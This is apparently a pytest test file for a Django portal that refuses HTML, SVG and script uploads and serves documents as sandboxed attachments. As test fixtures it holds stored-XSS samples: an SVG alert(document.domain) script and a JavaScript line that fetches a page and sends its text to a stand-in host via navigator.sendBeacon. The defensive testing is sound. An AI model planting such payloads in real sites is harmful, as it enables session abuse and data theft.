"""Uploaded documents never run in the portal's origin.

Only PDF, office documents and non-SVG images are accepted, by their content and with a
matching name; every download is an attachment of an allow-listed type, with nosniff and
a sandboxing Content-Security-Policy; files stored before the check are refused and
unpublished by ``manage.py documents_recheck``.
"""

import importlib
import io
import re
import zipfile
from io import StringIO

import pytest
from django.core.exceptions import ValidationError
from django.core.files.base import ContentFile
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.management import call_command
from django.urls import clear_url_caches
from PIL import Image

from core import uploads
from programs.models import Document, ProgramArea, Status
from tests.programs.factories import AreaFactory, DocumentFactory

pytestmark = pytest.mark.django_db

HTML = b"<!doctype html><html><body><script>fetch('/peer-support/')</script></body></html>"
SVG = (
    b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg">'
    b"<script>alert(document.domain)</script></svg>"
)
JS = b"fetch('/peer-support/').then(r => r.text()).then(t => navigator.sendBeacon('//x', t));"
PDF = b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n"


def image_bytes(fmt: str) -> bytes:
    buffer = io.BytesIO()
    Image.new("RGB", (2, 2), "red").save(buffer, fmt)
    return buffer.getvalue()


def ooxml_bytes(*, folder: str = "word", main: str = "wordprocessingml.document", extra=()):
    """A minimal Office Open XML package: content types, relationships, the main part."""
    part = {"word": "document.xml", "xl": "workbook.xml", "ppt": "presentation.xml"}[folder]
    content_types = (
        '<?xml version="1.0" encoding="UTF-8"?>'
        '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        '<Default Extension="rels" '
        'ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        f'<Override PartName="/{folder}/{part}" '
        f'ContentType="application/vnd.openxmlformats-officedocument.{main}.main+xml"/>'
        "</Types>"
    )
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("[Content_Types].xml", content_types)
        archive.writestr(
            "_rels/.rels",
            '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            f'<Relationship Id="rId1" Target="{folder}/{part}" Type="http://schemas.'
            'openxmlformats.org/officeDocument/2006/relationships/officeDocument"/>'
            "</Relationships>",
        )
        archive.writestr(f"{folder}/{part}", "<document/>")
        for name in extra:
            archive.writestr(name, b"\0")
    return buffer.getvalue()


def opendocument_bytes(mimetype: str) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("mimetype", mimetype, compress_type=zipfile.ZIP_STORED)
        archive.writestr("content.xml", "<office:document-content/>")
    return buffer.getvalue()


# --- The allow-list ----------------------------------------------------------------------


@pytest.mark.parametrize(
    ("name", "content", "content_type"),
    [
        ("plan.pdf", lambda: PDF, "application/pdf"),
        ("map.png", lambda: image_bytes("PNG"), "image/png"),
        ("photo.jpg", lambda: image_bytes("JPEG"), "image/jpeg"),
        ("photo.JPEG", lambda: image_bytes("JPEG"), "image/jpeg"),
        ("chart.gif", lambda: image_bytes("GIF"), "image/gif"),
        ("chart.webp", lambda: image_bytes("WEBP"), "image/webp"),
        ("guide.docx", ooxml_bytes, uploads.DOCX.content_type),
        (
            "figures.xlsx",
            lambda: ooxml_bytes(folder="xl", main="spreadsheetml.sheet"),
            uploads.XLSX.content_type,
        ),
        (
            "slides.pptx",
            lambda: ooxml_bytes(folder="ppt", main="presentationml.presentation"),
            uploads.PPTX.content_type,
        ),
        (
            "minutes.odt",
            lambda: opendocument_bytes("application/vnd.oasis.opendocument.text"),
            uploads.ODT.content_type,
        ),
    ],
)
def test_allow_listed_types_are_recognised_by_content(name, content, content_type):
    kind = uploads.document_type(file=SimpleUploadedFile(name, content()))
    assert kind.content_type == content_type


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("page.html", HTML),
        ("page.pdf", HTML),  # an HTML page renamed
        ("logo.svg", SVG),
        ("logo.png", SVG),
        ("app.js", JS),
        ("notes.txt", b"Plain text is not accepted either."),
        ("empty.pdf", b""),
        ("archive.docx", b"PK\x03\x04 not really a zip"),
        ("macros.docx", ooxml_bytes(extra=["word/vbaProject.bin"])),
        ("other.docx", ooxml_bytes(main="wordprocessingml.template")),
    ],
)
def test_anything_else_is_refused_with_the_allow_list_message(name, content):
    with pytest.raises(ValidationError) as error:
        uploads.document_type(file=SimpleUploadedFile(name, content))
    assert error.value.messages == [uploads.REFUSED_MESSAGE]


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("plan.html", PDF),  # a PDF renamed
        ("plan", PDF),
        ("guide.xlsx", ooxml_bytes()),
        ("map.jpg", image_bytes("PNG")),
    ],
)
def test_name_and_content_must_agree(name, content):
    with pytest.raises(ValidationError) as error:
        uploads.document_type(file=SimpleUploadedFile(name, content))
    assert "rename it" in error.value.messages[0]


# --- The admin add form ------------------------------------------------------------------


def _add_document(client, area, upload):
    return client.post(
        "/admin/programs/document/add/",
        {
            "title": "Regional evacuation plan",
            "slug": "regional-evacuation-plan",
            "kind": "plan",
            "area": area.pk,
            "description": "Routes and shelters.",
            "file": upload,
            "status": "published",
            "publish_at_0": "2025-01-15",
            "publish_at_1": "09:00:00",
        },
    )


@pytest.mark.parametrize(
    ("name", "content", "message"),
    [
        ("evil.html", HTML, "not a PDF, an office document"),
        ("evil.js", JS, "not a PDF, an office document"),
        ("evil.svg", SVG, "SVG images are not accepted"),
        ("evil.pdf", HTML, "not a PDF, an office document"),
        ("plan.html", PDF, "its content is a PDF"),
    ],
)
def test_admin_refuses_a_page_script_or_svg_and_keeps_what_was_typed(
    superuser_client, name, content, message
):
    area = AreaFactory()
    response = _add_document(superuser_client, area, SimpleUploadedFile(name, content))
    assert response.status_code == 200
    html = response.content.decode()
    assert message in html
    assert 'value="Regional evacuation plan"' in html
    assert not Document.objects.exists()


@pytest.mark.parametrize(
    ("name", "content"),
    [("plan.pdf", PDF), ("map.png", image_bytes("PNG")), ("guide.docx", ooxml_bytes())],
)
def test_admin_accepts_a_pdf_an_image_and_a_word_document(superuser_client, name, content):
    area = AreaFactory()
    response = _add_document(superuser_client, area, SimpleUploadedFile(name, content))
    assert response.status_code == 302, response.content.decode()[:3000]
    document = Document.objects.get()
    assert document.file.name.endswith(name.rsplit(".", 1)[-1])


def test_admin_file_picker_offers_only_allow_listed_types(superuser_client):
    html = superuser_client.get("/admin/programs/document/add/").content.decode()
    accept = re.search(r'<input type="file" name="file"[^>]*accept="([^"]+)"', html).group(1)
    assert accept.split(",") == [f".{ext}" for ext in uploads.ACCEPTED_EXTENSIONS]
    assert ".pdf" in accept and ".svg" not in accept and ".html" not in accept


def test_a_hero_image_cannot_be_an_svg(superuser_client):
    for name in ("hero.svg", "hero.png"):
        response = superuser_client.post(
            "/admin/programs/programarea/add/",
            {
                "title": "Hazardous materials",
                "slug": "hazardous-materials",
                "summary": "Plans for chemical emergencies.",
                "body": "",
                "order": 0,
                "hero_image": SimpleUploadedFile(name, SVG, content_type="image/svg+xml"),
                "hero_alt": "A map",
                "status": "published",
                "publish_at_0": "2025-01-15",
                "publish_at_1": "09:00:00",
            },
        )
        assert response.status_code == 200
        assert "errorlist" in response.content.decode()
    assert not ProgramArea.objects.exists()


# --- Downloads ---------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("name", "content", "content_type"),
    [
        ("plan.pdf", PDF, "application/pdf"),
        ("map.png", image_bytes("PNG"), "image/png"),
        ("guide.docx", ooxml_bytes(), uploads.DOCX.content_type),
    ],
)
def test_download_is_a_sandboxed_attachment_of_the_allow_listed_type(
    client, name, content, content_type
):
    document = DocumentFactory(slug="regional-plan", file=ContentFile(content, name=name))
    response = client.get(document.get_absolute_url())
    assert response.status_code == 200
    extension = name.rsplit(".", 1)[-1]
    assert response["Content-Disposition"] == f'attachment; filename="regional-plan.{extension}"'
    assert response["Content-Type"] == content_type
    assert response["X-Content-Type-Options"] == "nosniff"
    policy = [d.strip() for d in response["Content-Security-Policy"].split(";")]
    assert "sandbox" in policy and "default-src 'none'" in policy
    assert "script-src 'self'" not in response["Content-Security-Policy"]
    assert b"".join(response.streaming_content) == content


def test_a_stored_html_file_is_never_served(client):
    for name, content in (("old.html", HTML), ("old.pdf", HTML), ("old.svg", SVG)):
        document = DocumentFactory(file=ContentFile(content, name=name))
        assert client.get(document.get_absolute_url()).status_code == 404


# --- Re-checking stored files ------------------------------------------------------------


def test_recheck_reports_and_unpublishes_stored_html_and_keeps_good_documents():
    bad = DocumentFactory(slug="old-page", file=ContentFile(HTML, name="old-page.html"))
    draft = DocumentFactory(
        slug="old-draft", status=Status.DRAFT, file=ContentFile(SVG, name="x.svg")
    )
    good = DocumentFactory(slug="good-plan")

    dry = StringIO()
    call_command("documents_recheck", "--dry-run", stdout=dry)
    assert "old-page" in dry.getvalue() and "2 document(s)" in dry.getvalue()
    bad.refresh_from_db()
    assert bad.status == Status.PUBLISHED

    out = StringIO()
    call_command("documents_recheck", stdout=out)
    report = out.getvalue()
    assert "old-page (programs/documents/" in report and "unpublished" in report
    assert "old-draft" in report and "good-plan" not in report
    for document, status in ((bad, Status.DRAFT), (draft, Status.DRAFT), (good, "published")):
        document.refresh_from_db()
        assert document.status == status

    again = StringIO()
    call_command("documents_recheck", stdout=again)
    assert "left draft" in again.getvalue()


# --- /media/ in development ----------------------------------------------------------------


@pytest.fixture
def debug_urls(settings):
    """The URLconf as DEBUG builds it, restored afterwards."""
    import marc_safety.urls

    settings.DEBUG = True
    try:
        yield importlib.reload(marc_safety.urls)
    finally:
        settings.DEBUG = False
        importlib.reload(marc_safety.urls)
        clear_url_caches()


def test_development_media_serves_images_but_never_documents_or_private_files(
    client, settings, debug_urls
):
    clear_url_caches()
    root = settings.MEDIA_ROOT
    for path, content in (
        ("programs/areas/map.png", image_bytes("PNG")),
        ("programs/documents/2025/evil.html", HTML),
        ("coresponder/imports/2025/01/contacts.csv", b"name\nconfidential\n"),
        ("reports/2025/01/report.html", HTML),
    ):
        (root / path).parent.mkdir(parents=True, exist_ok=True)
        (root / path).write_bytes(content)
    assert client.get("/media/programs/areas/map.png").status_code == 200
    assert client.get("/media/programs/documents/2025/evil.html").status_code == 404
    assert client.get("/media/coresponder/imports/2025/01/contacts.csv").status_code == 404
    assert client.get("/media/reports/2025/01/report.html").status_code == 404
